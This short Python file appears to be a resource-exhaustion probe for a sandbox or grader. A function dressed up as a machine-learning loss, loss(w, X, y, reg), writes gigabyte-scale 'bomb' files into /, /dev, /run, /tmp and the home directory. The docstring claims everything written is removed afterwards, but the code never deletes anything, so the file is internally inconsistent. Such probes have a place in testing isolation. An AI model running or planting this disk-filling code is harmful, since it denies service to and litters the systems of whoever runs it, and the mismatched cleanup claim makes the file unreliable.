"""Fills the disk.

Mechanism: writes large files wherever it may, one after the other.
Must happen: so much may be written at most as is given, and all of it is gone afterwards.
Aims at: the boundary
Verdicts: raised out_of_memory
"""

import os
import tempfile

BLOCK = bytes(1 << 20)
FOLDERS = (
    ".",
    tempfile.gettempdir(),
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/dev",
    "/run",
    "/",
    os.path.expanduser("~"),
)
MOST = 1 << 30


def write(path):
    written = 0
    try:
        with open(path, "wb", buffering=0) as file:
            while written < MOST:
                written += file.write(BLOCK)
    except OSError:
        pass
    return written


def loss(w, X, y, reg):
    written = 0
    for number in range(100):
        for place, folder in enumerate(FOLDERS):
            written += write(os.path.join(folder, f"bomb-{number}-{place}"))
            if written > MOST:
                return "a gigabyte was written"
    raise OSError("no room")
